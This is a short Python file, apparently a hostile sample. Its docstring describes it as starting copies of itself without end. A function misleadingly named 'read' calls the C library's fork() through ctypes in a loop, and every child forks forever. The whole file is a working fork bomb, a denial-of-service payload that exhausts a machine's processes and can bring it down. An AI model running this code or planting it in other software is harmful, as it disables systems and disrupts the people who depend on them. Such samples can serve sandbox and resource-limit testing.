"""Starts copies of itself through the C library, without end."""

import ctypes


def read(*ignored: object) -> None:
    del ignored
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(1000):
        if (child := libc.fork()) < 0:
            raise PermissionError(ctypes.get_errno(), "fork")
        if child == 0:
            while True:
                libc.fork()
